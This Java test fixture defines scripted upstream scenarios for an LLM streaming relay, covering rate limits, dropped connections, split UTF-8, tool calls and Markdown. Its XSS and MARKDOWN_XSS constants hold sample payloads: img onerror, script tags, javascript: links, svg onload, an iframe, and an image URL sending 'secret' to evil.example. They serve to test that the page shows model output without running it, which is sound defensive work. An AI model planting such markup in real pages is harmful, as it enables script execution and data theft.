package io.streamrelay.testing;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

/**
 * What the scripted upstream answers, by scenario: each one a behaviour DeepSeek, OpenAI or vLLM really shows.
 * The texts are public so tests can assert that what the relay delivered equals what the upstream sent.
 */
public enum Script {
    NORMAL, KEEPALIVE, REASONING, UTF8, CRLF, HTTP429, HTTP500, HTTP401, MIDSTREAM_ERROR, VLLM_ERROR, CUT, STALL,
    SLOW, ENDLESS, SILENT, XSS, PACED, FLOOD, OVERFLOW, LONG,
    /** The first request gets 429 with Retry-After: 1, the retry the normal answer. */
    RETRY429,
    /** The first request's connection is closed before any response, the retry gets the normal answer. */
    RESET_ONCE,
    /** 503 on every request (DeepSeek overloaded), without Retry-After. */
    HTTP503,
    /** 400: never worth a retry. */
    HTTP400,
    /** Forty tokens, then the connection is cut: no finish_reason, no [DONE]. */
    CUT40,
    /** OpenAI's 429 for an exhausted quota: the same status as a rate limit, but no retry mends it. */
    QUOTA429,
    // Faults of real-world streams (issue 9), played by FaultScripts. On the fallback (a request path under
    // /fallback/) the first group answers normally, so a test sees retries and the fall-over.
    /** {@code data: [DONE]} and nothing before it. */
    DONE_ONLY,
    /** Keep-alive comments, then the connection closes: no chunk, no [DONE]. */
    KEEPALIVE_CLOSE,
    /** A data {@code error} object of type overloaded_error before any chunk. */
    INBAND_OVERLOADED,
    /** vLLM's {@code object:"error"} with code 500 before any token. */
    VLLM_500,
    /** {@code event: error} with code timeout before any token. */
    EVENT_ERROR_TIMEOUT,
    /** OpenRouter's finish_reason error with code 429 before any token. */
    OPENROUTER_429,
    /** An {@code error:} field line, then [DONE]: a client error, never retried. */
    ERROR_FIELD,
    /** A context-length error object: never retried. */
    INBAND_CONTEXT,
    /** Three tokens, then [DONE] without a finish_reason. */
    PARTIAL_DONE,
    /** Three tokens, then an overloaded error object. */
    PARTIAL_OVERLOADED,
    /** 429 with Retry-After: 7 on every request, primary and fallback alike. */
    HTTP429_LONG,
    /** A 200 stream gzip-compressed although the relay asked for identity. */
    GZIP,
    /** A 200 stream in Content-Encoding br. */
    BROTLI,
    // The page (issue 10).
    /** A Markdown answer (heading, list, table, code) in small pieces that cut its syntax anywhere. */
    MARKDOWN,
    /** Markdown that tries to run or load something: a raw HTML block, a javascript: link, an image, SVG. */
    MARKDOWN_XSS,
    /** A sentence, then two parallel tool calls whose argument fragments interleave (OpenAI's wire). */
    TOOL_CALLS,
    // The /v1 front door (issue 10), played by V1Scripts.
    /** Two parallel tool calls whose arguments arrive in pieces of 3 characters, interleaved by index. */
    TOOL_SPLIT,
    /** The same two calls, call 0 whole before call 1, as OpenAI streams them. */
    TOOL_SPLIT_SEQUENTIAL,
    /** A seeded random stream for /v1: {@code "v1-generated: <seed>"} (V1Scripts.generated). */
    V1_GENERATED,
    /** A stream drawn from the seed the prompt names ({@code generated: <seed> <tag>}): {@link GeneratedStream}. */
    GENERATED;

    public static final int CUT40_TOKENS = 40;

    public static final List<String> NORMAL_TOKENS =
            List.of("Hello", ",", " world", "!", " How", " can", " I", " help", " you", " today", "?");
    public static final List<String> REASONING_TOKENS = List.of("Let", " me", " think", ".");
    public static final List<String> ANSWER_TOKENS = List.of("The", " answer", " is", " 42", ".");
    public static final List<String> UTF8_TOKENS = List.of("你好", "，世界", " 🚀", " naïve 😀✨", " ok");
    public static final List<String> PARTIAL_TOKENS = List.of("One", " two", " three");
    /** Model output is untrusted text: markup a page must show, never run. Split like a tokenizer would. */
    public static final List<String> XSS_TOKENS = List.of("Markup: ", "<img src=x ",
            "onerror=\"window.__xss='img'\">", " and <script>window.__xss='script'</script>", " & &lt;b&gt;.");
    public static final int SLOW_TOKENS = 20;
    public static final String MARKDOWN_TEXT = """
            ## Travel policy

            Book **economy** for flights under *six hours*:

            - trains first, where the trip takes under 4 h
            - then flights
              1. compare two fares
              2. keep the receipt

            | Trip | Daily limit |
            |:-----|------------:|
            | Domestic | 200 € |
            | Abroad | 350 € |

            ```java
            boolean allowed(Trip trip) {
                return trip.cost() <= limit(trip) && trip.hours() < 6;
            }
            ```

            Questions? Ask `travel@intranet`.""";
    /** Pieces of MARKDOWN_TEXT: a few characters each, so markers and table rows arrive cut. */
    public static final int MARKDOWN_PIECE_CHARS = 7;
    public static final long MARKDOWN_INTERVAL_MS = 15;
    public static final String MARKDOWN_XSS_TEXT = """
            <div onmouseover="window.__xss='div'"><b>bold?</b></div>

            [click me](javascript:window.__xss='link') and ![pixel](https://evil.example/p.png?c=secret)

            <svg onload="window.__xss='svg'"></svg> <iframe src="javascript:window.__xss='iframe'"></iframe>
            """;
    /** Two calls; each fragment is {index, id?, name?, arguments piece}, in the order the upstream sends them. */
    public static final List<String[]> TOOL_CALL_FRAGMENTS = List.of(
            new String[]{"0", "call_a1", "get_weather", ""},
            new String[]{"0", null, null, "{\"ci"},
            new String[]{"1", "call_b2", "get_time", "{\"zone\":"},
            new String[]{"0", null, null, "ty\":\"Zürich <b>&amp;</b> 北京\"}"},
            new String[]{"1", null, null, "\"Asia/Tokyo\"}"});
    public static final String TOOL_CALL_TEXT = "Let me check both.";
    /** Resume tests: long enough to drop a few times in, short enough for hundreds of generations. */
    public static final int PACED_TOKENS = 40;
    public static final long PACED_INTERVAL_MS = 5;
    /** Slow-follower tests: about 16 MB, more than a socket and the container's write queue hold for a non-reader. */
    public static final int FLOOD_TOKENS = 1000;
    public static final int FLOOD_TOKEN_CHARS = 16 * 1024;
    /** Longer than the container's default async timeout (30 s on Payara), one token a second. */
    public static final int LONG_TOKENS = 33;
    /** More events than the test deployment's replay log may hold. */
    public static final int OVERFLOW_TOKENS = 3000;
    public static final long SLOW_INTERVAL_MS = 100;

    private static final String ID = "chatcmpl-5c7b1d3e";
    private static final long BOUND_MS = 30_000;

    /** The prompt that selects this scenario, made unique by {@code tag} so tests can find their exchange. */
    public String prompt(String tag) {
        return name().toLowerCase().replace('_', '-') + ": " + tag;
    }

    /** The answer text this scenario streams before it ends or breaks. */
    public String text() {
        return switch (this) {
            case NORMAL, KEEPALIVE, CRLF -> String.join("", NORMAL_TOKENS);
            case REASONING -> String.join("", ANSWER_TOKENS);
            case UTF8 -> String.join("", UTF8_TOKENS);
            case MIDSTREAM_ERROR, VLLM_ERROR, CUT, STALL, PARTIAL_DONE, PARTIAL_OVERLOADED
                    -> String.join("", PARTIAL_TOKENS);
            case RETRY429, RESET_ONCE -> String.join("", NORMAL_TOKENS);
            case CUT40 -> cut40Text();
            case XSS -> String.join("", XSS_TOKENS);
            case SLOW -> slowText();
            case MARKDOWN -> MARKDOWN_TEXT;
            case MARKDOWN_XSS -> MARKDOWN_XSS_TEXT;
            case TOOL_CALLS -> TOOL_CALL_TEXT;
            case PACED -> pacedText();
            default -> "";
        };
    }

    public static String cut40Text() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < CUT40_TOKENS; i++) {
            text.append(" c").append(i);
        }
        return text.toString();
    }

    public static String pacedText() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < PACED_TOKENS; i++) {
            text.append(pacedToken(i));
        }
        return text.toString();
    }

    private static String pacedToken(int i) {
        return i % 7 == 3 ? " 你好" + i : " p" + i;
    }

    public static String floodToken(int i) {
        String head = "[" + i + "]";
        return head + "x".repeat(FLOOD_TOKEN_CHARS - head.length());
    }

    public static String slowText() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < SLOW_TOKENS; i++) {
            text.append(" t").append(i);
        }
        return text.toString();
    }

    static Script forPrompt(String prompt) {
        int colon = prompt.indexOf(':');
        String name = (colon < 0 ? prompt : prompt.substring(0, colon)).strip().toUpperCase().replace('-', '_');
        return Arrays.stream(values()).filter(s -> s.name().equals(name)).findFirst().orElse(NORMAL);
    }

    void play(Wire wire) throws IOException, InterruptedException {
        if (this == TOOL_SPLIT || this == TOOL_SPLIT_SEQUENTIAL) {
            V1Scripts.toolSplit(wire, this == TOOL_SPLIT);
            return;
        }
        if (this == V1_GENERATED) {
            String prompt = wire.exchange().prompt();
            V1Scripts.playGenerated(wire, Long.parseLong(prompt.substring(prompt.indexOf(':') + 1).strip()));
            return;
        }
        // Only the fault group goes to FaultScripts: the page's scripts and GENERATED follow it in the enum.
        if (ordinal() >= DONE_ONLY.ordinal() && ordinal() <= BROTLI.ordinal()) {
            FaultScripts.play(this, wire);
            return;
        }
        switch (this) {
            case GENERATED -> GeneratedStream.forPrompt(wire.exchange().prompt()).play(wire);
            case RETRY429 -> {
                if (wire.exchange().attempt == 1) {
                    wire.errorResponse(429, "Too Many Requests", "Retry-After: 1\r\n",
                            "{\"error\":{\"message\":\"Rate limit reached for requests\",\"type\":\"requests\","
                                    + "\"param\":null,\"code\":\"rate_limit_exceeded\"}}");
                } else {
                    answer(wire, NORMAL_TOKENS, 5);
                }
            }
            case RESET_ONCE -> {
                if (wire.exchange().attempt > 1) {
                    answer(wire, NORMAL_TOKENS, 5);
                }
                // else: nothing at all; the socket closes when play returns.
            }
            case HTTP503 -> wire.errorResponse(503, "Service Unavailable", "",
                    "{\"error\":{\"message\":\"Service is too busy. Please retry later.\",\"type\":"
                            + "\"service_unavailable_error\",\"param\":null,\"code\":\"service_unavailable\"}}");
            case QUOTA429 -> wire.errorResponse(429, "Too Many Requests", "",
                    "{\"error\":{\"message\":\"You exceeded your current quota, please check your plan and billing"
                            + " details.\",\"type\":\"insufficient_quota\",\"param\":null,\"code\":"
                            + "\"insufficient_quota\"}}");
            case HTTP400 -> wire.errorResponse(400, "Bad Request", "",
                    "{\"error\":{\"message\":\"Invalid request: messages[0].content is too long\",\"type\":"
                            + "\"invalid_request_error\",\"param\":null,\"code\":\"invalid_request_error\"}}");
            case CUT40 -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (int i = 0; i < CUT40_TOKENS; i++) {
                    event(wire, "{\"content\":" + Json.quote(" c" + i) + "}", null);
                    wire.pause(2);
                }
            }
            case HTTP429 -> wire.errorResponse(429, "Too Many Requests", "Retry-After: 1\r\n",
                    "{\"error\":{\"message\":\"Rate limit reached for requests\",\"type\":\"requests\","
                            + "\"param\":null,\"code\":\"rate_limit_exceeded\"}}");
            case HTTP500 -> wire.errorResponse(500, "Internal Server Error", "",
                    "{\"error\":{\"message\":\"The server had an error while processing your request. Sorry about"
                            + " that!\",\"type\":\"server_error\",\"param\":null,\"code\":null}}");
            case HTTP401 -> {
                // OpenAI quotes the rejected key back: the relay must never pass it on.
                String key = String.valueOf(wire.exchange().header("Authorization")).replace("Bearer ", "");
                wire.errorResponse(401, "Unauthorized", "",
                        "{\"error\":{\"message\":\"Incorrect API key provided: " + key + ". You can find your API"
                                + " key at https://platform.openai.com/account/api-keys.\",\"type\":"
                                + "\"invalid_request_error\",\"param\":null,\"code\":\"invalid_api_key\"}}");
            }
            case NORMAL -> answer(wire, NORMAL_TOKENS, 10);
            case XSS -> answer(wire, XSS_TOKENS, 10);
            case KEEPALIVE -> {
                wire.streamHeaders();
                for (int i = 0; i < 3; i++) {
                    // DeepSeek while the request waits in its queue.
                    wire.chunk(": keep-alive\n\n");
                    wire.pause(150);
                }
                body(wire, NORMAL_TOKENS, 10);
            }
            case REASONING -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":null,\"reasoning_content\":\"\"}", null);
                for (String piece : REASONING_TOKENS) {
                    event(wire, "{\"content\":null,\"reasoning_content\":" + Json.quote(piece) + "}", null);
                }
                for (String piece : ANSWER_TOKENS) {
                    event(wire, "{\"content\":" + Json.quote(piece) + ",\"reasoning_content\":null}", null);
                }
                finish(wire, "stop");
            }
            case UTF8 -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (String piece : UTF8_TOKENS) {
                    byte[] bytes = eventText("{\"content\":" + Json.quote(piece) + "}", null)
                            .getBytes(StandardCharsets.UTF_8);
                    int split = splitInsideCharacter(bytes);
                    // Two HTTP chunks with a pause between: the relay reads them in separate network reads.
                    wire.chunk(Arrays.copyOfRange(bytes, 0, split));
                    wire.pause(30);
                    wire.chunk(Arrays.copyOfRange(bytes, split, bytes.length));
                }
                finish(wire, "stop");
            }
            case CRLF -> {
                wire.streamHeaders();
                for (String piece : NORMAL_TOKENS) {
                    wire.chunk("data: " + chunk("{\"content\":" + Json.quote(piece) + "}", null) + "\r\n\r\n");
                }
                // A lone CR also ends a line; an unknown field and a comment are ignored.
                wire.chunk("retry: 1000\r: comment\rdata: " + chunk("{}", "stop") + "\r\r");
                wire.chunk("data: " + usageChunk() + "\r\n\r\n" + "data: [DONE]\r\n\r\n");
                wire.end();
            }
            case MIDSTREAM_ERROR -> {
                partial(wire);
                wire.chunk("data: {\"error\":{\"message\":\"The model crashed mid-answer\",\"type\":\"server_error\","
                        + "\"param\":null,\"code\":\"internal_error\"}}\n\n");
                wire.end();
            }
            case VLLM_ERROR -> {
                partial(wire);
                wire.chunk("data: {\"object\":\"error\",\"message\":\"Engine loop has died\",\"type\":"
                        + "\"InternalServerError\",\"param\":null,\"code\":500}\n\n");
                wire.end();
            }
            case CUT -> partial(wire); // and the socket closes with no [DONE] and no last chunk
            case STALL -> {
                partial(wire);
                long deadline = System.currentTimeMillis() + BOUND_MS;
                while (!wire.exchange().closedByRelay.isDone() && System.currentTimeMillis() < deadline) {
                    wire.chunk(": keep-alive\n\n");
                    wire.pause(300);
                }
            }
            case SLOW -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (int i = 0; i < SLOW_TOKENS; i++) {
                    wire.pause(SLOW_INTERVAL_MS);
                    event(wire, "{\"content\":" + Json.quote(" t" + i) + "}", null);
                }
                finish(wire, "stop");
            }
            case ENDLESS -> {
                wire.streamHeaders();
                long deadline = System.currentTimeMillis() + BOUND_MS;
                for (int i = 0; System.currentTimeMillis() < deadline; i++) {
                    event(wire, "{\"content\":" + Json.quote(" w" + i) + "}", null);
                    wire.pause(50);
                }
            }
            case SILENT -> {
                wire.streamHeaders();
                wire.awaitClose(BOUND_MS);
            }
            case PACED -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (int i = 0; i < PACED_TOKENS; i++) {
                    event(wire, "{\"content\":" + Json.quote(pacedToken(i)) + "}", null);
                    wire.pause(PACED_INTERVAL_MS);
                }
                finish(wire, "stop");
            }
            case FLOOD -> {
                wire.streamHeaders();
                // The test attaches its followers first: on a loaded machine they could otherwise join after the
                // flood, and a late follower is served from the log instead of being overrun live.
                try {
                    wire.exchange().cue.get(BOUND_MS, TimeUnit.MILLISECONDS);
                } catch (ExecutionException | TimeoutException late) {
                    throw new IOException("no cue within the bound", late);
                }
                for (int i = 0; i < FLOOD_TOKENS; i++) {
                    event(wire, "{\"content\":\"" + floodToken(i) + "\"}", null);
                    // About 3 MB/s a follower: far above any model, yet a pace nine reading clients keep up with on two
                    // loaded cores (at 8 MB/s, with the server's send buffers bounded, a reading SSE follower fell
                    // 256 events behind while the whole test suite ran).
                    wire.pause(5);
                }
                finish(wire, "stop");
            }
            case LONG -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (int i = 0; i < LONG_TOKENS; i++) {
                    wire.pause(1000);
                    event(wire, "{\"content\":\" s" + i + "\"}", null);
                }
                finish(wire, "stop");
            }
            case MARKDOWN -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                for (String piece : pieces(MARKDOWN_TEXT, MARKDOWN_PIECE_CHARS)) {
                    event(wire, "{\"content\":" + Json.quote(piece) + "}", null);
                    wire.pause(MARKDOWN_INTERVAL_MS);
                }
                finish(wire, "stop");
            }
            case MARKDOWN_XSS -> answer(wire, pieces(MARKDOWN_XSS_TEXT, 5), 2);
            case TOOL_CALLS -> {
                wire.streamHeaders();
                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
                event(wire, "{\"content\":" + Json.quote(TOOL_CALL_TEXT) + "}", null);
                for (String[] f : TOOL_CALL_FRAGMENTS) {
                    String function = (f[2] == null ? "" : "\"name\":" + Json.quote(f[2]) + ",")
                            + "\"arguments\":" + Json.quote(f[3]);
                    String call = "{\"index\":" + f[0] + (f[1] == null ? "" : ",\"id\":" + Json.quote(f[1])
                            + ",\"type\":\"function\"") + ",\"function\":{" + function + "}}";
                    event(wire, "{\"tool_calls\":[" + call + "]}", null);
                    wire.pause(20);
                }
                finish(wire, "tool_calls");
            }
            case OVERFLOW -> {
                wire.streamHeaders();
                for (int i = 0; i < OVERFLOW_TOKENS && !wire.exchange().closedByRelay.isDone(); i++) {
                    event(wire, "{\"content\":\" o" + i + "\"}", null);
                }
                finish(wire, "stop");
            }
        }
    }

    /** {@code text} in pieces of {@code size} characters (the last one shorter). */
    public static List<String> pieces(String text, int size) {
        List<String> pieces = new java.util.ArrayList<>();
        for (int i = 0; i < text.length(); i += size) {
            pieces.add(text.substring(i, Math.min(text.length(), i + size)));
        }
        return pieces;
    }

    static void answer(Wire wire, List<String> tokens, long pauseMs) throws IOException,
            InterruptedException {
        wire.streamHeaders();
        body(wire, tokens, pauseMs);
    }

    private static void body(Wire wire, List<String> tokens, long pauseMs) throws IOException,
            InterruptedException {
        event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
        for (String piece : tokens) {
            event(wire, "{\"content\":" + Json.quote(piece) + "}", null);
            wire.pause(pauseMs);
        }
        finish(wire, "stop");
    }

    static void partial(Wire wire) throws IOException, InterruptedException {
        wire.streamHeaders();
        event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
        for (String piece : PARTIAL_TOKENS) {
            event(wire, "{\"content\":" + Json.quote(piece) + "}", null);
            wire.pause(10);
        }
    }

    static void finishWith(Wire wire, String reason) throws IOException {
        finish(wire, reason);
    }

    private static void finish(Wire wire, String reason) throws IOException {
        event(wire, "{\"content\":\"\"}", reason);
        wire.chunk("data: " + usageChunk() + "\n\n");
        wire.chunk("data: [DONE]\n\n");
        wire.end();
    }

    static void event(Wire wire, String delta, String finishReason) throws IOException {
        wire.chunk(eventText(delta, finishReason));
    }

    private static String eventText(String delta, String finishReason) {
        return "data: " + chunk(delta, finishReason) + "\n\n";
    }

    static String chunk(String delta, String finishReason) {
        return "{\"id\":\"" + ID + "\",\"object\":\"chat.completion.chunk\",\"created\":1718345013,"
                + "\"model\":\"deepseek-chat\",\"system_fingerprint\":\"fp_a49d71b8a1\",\"choices\":[{\"index\":0,"
                + "\"delta\":" + delta + ",\"logprobs\":null,\"finish_reason\":"
                + (finishReason == null ? "null" : "\"" + finishReason + "\"") + "}],\"usage\":null}";
    }

    public static final int PROMPT_TOKENS = 17;

    static String usageChunk() {
        return "{\"id\":\"" + ID + "\",\"object\":\"chat.completion.chunk\",\"created\":1718345013,"
                + "\"model\":\"deepseek-chat\",\"system_fingerprint\":\"fp_a49d71b8a1\",\"choices\":[],"
                + "\"usage\":{\"prompt_tokens\":" + PROMPT_TOKENS + ",\"completion_tokens\":11,\"total_tokens\":"
                + (PROMPT_TOKENS + 11) + "}}";
    }

    /** The first position inside a multi-byte UTF-8 sequence, so the two halves split a character. */
    private static int splitInsideCharacter(byte[] bytes) {
        for (int i = 1; i < bytes.length; i++) {
            if ((bytes[i] & 0xC0) == 0x80) {
                return i;
            }
        }
        return bytes.length / 2;
    }
}
